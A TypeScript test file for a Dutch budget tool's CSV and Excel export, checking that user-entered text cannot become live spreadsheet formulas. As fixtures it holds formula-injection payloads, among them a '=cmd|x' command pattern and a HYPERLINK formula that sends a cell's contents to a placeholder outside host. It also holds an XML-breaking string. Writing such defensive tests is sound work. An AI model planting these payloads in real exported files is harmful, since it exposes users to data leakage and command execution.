import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import { csvOf } from '#server/budget/csv.ts'
import { harmless } from '#server/budget/harmless.ts'
import { sheetsOf, type Sheet } from '#server/budget/sheets.ts'
import { xlsxOf } from '#server/budget/xlsx.ts'
import { edition, openDesk, row } from '../../shared/checks/desk.ts'

const sheetsAfter = (act: (desk: ReturnType<typeof openDesk>) => void = () => {}): readonly Sheet[] => {
  const desk = openDesk()
  act(desk)
  return sheetsOf(desk.content(), edition) ?? []
}
const lines = (text: string): string[] => text.split('\r\n')

describe('the budget as a text file', () => {
  const csv = csvOf(sheetsAfter()[0]!)

  test('says what alphabet it is in, and separates as Dutch spreadsheets do', () => {
    expect(csv.startsWith('\ufeffNr.;Kostenlijn;Categorie;Aantal;Eenheid;Prijs per eenheid;Bedrag;')).toBe(
      true,
    )
    expect(csv.endsWith('\r\n')).toBe(true)
  })

  test('holds every line of the worked example and its sums, to the cent', () => {
    expect(lines(csv)[1]).toContain('1;Procesbegeleiding;Externe expertise;20;dagen;750,00;15000,00;Leiedal;')
    expect(lines(csv)[6]).toContain('6;Lerend netwerk;')
    expect(lines(csv)[7]).toContain('Totaal;;;;;;61500,00;')
    expect(lines(csv)[7]).toContain(';25000,00;')
    expect(lines(csv)[7]?.endsWith(';0,00')).toBe(true)
  })

  test('a semicolon, a quote and a line break stay inside their cell', () => {
    const [sheet] = sheetsAfter((desk) =>
      desk.set(row('budget', 'lines', 'lijn-campagne', 'label'), 'Folder; "groot"\nen klein'),
    )
    expect(csvOf(sheet!)).toContain('5;"Folder; ""groot""\nen klein";Communicatie')
  })
})

test.each([
  ['=1+1', "'=1+1"],
  ['+32 9 000', "'+32 9 000"],
  ['-5 dagen', "'-5 dagen"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t=1"],
  ['\r=1', "'\r=1"],
  ['  =cmd|x', "'  =cmd|x"],
  ['＝1+1', "'＝1+1"],
  ['a\u0000b\u0007\ud800c', 'ab\ufffdc'],
  ['Stuurgroep = beslist', 'Stuurgroep = beslist'],
  ['', ''],
])('%j is written as %j: words, never a formula', (typed, written) => {
  expect(harmless(typed)).toBe(written)
})

describe('the budget as a workbook', () => {
  const hostile = '=HYPERLINK("http://elders.example/?"&A1;"klik")'
  const open = async () => {
    const sheets = sheetsAfter((desk) => {
      desk.set(row('budget', 'lines', 'lijn-campagne', 'label'), hostile)
      desk.set(row('budget', 'lines', 'lijn-instrument', 'label'), `</t><f>1</f>\u0001 ${'x'.repeat(40_000)}`)
    })
    const files = unzipSync(await xlsxOf(sheets))
    return Object.fromEntries(Object.entries(files).map(([name, bytes]) => [name, strFromU8(bytes)]))
  }

  test('has a sheet for each side of the money, and no formula in any', async () => {
    const files = await open()
    const workbook = files['xl/workbook.xml'] ?? ''
    for (const name of ['Kostenlijnen', 'Bronnen', 'Per partner', 'Per stap', 'Per jaar', 'Per categorie'])
      expect(workbook).toContain(`name="${name}"`)
    const sheets = Object.keys(files).filter((name) => /worksheets\/sheet\d/u.test(name))
    expect(sheets).toHaveLength(6)
    for (const [name, xml] of Object.entries(files)) expect(xml, name).not.toMatch(/<f[ >]/u)
  })

  test('what looks like a formula, or like the file itself, is written as words', async () => {
    const all = Object.values(await open()).join('')
    expect(all).toMatch(/>('|&apos;|&#39;)=HYPERLINK/u)
    expect(all).not.toContain('>=HYPERLINK')
    expect(all).not.toContain('\u0001')
    expect(all).not.toContain('x'.repeat(33_000))
  })

  test('amounts are numbers, so that people can go on calculating', async () => {
    const files = await open()
    expect(files['xl/worksheets/sheet1.xml']).toContain('<v>61500</v>')
  })
})
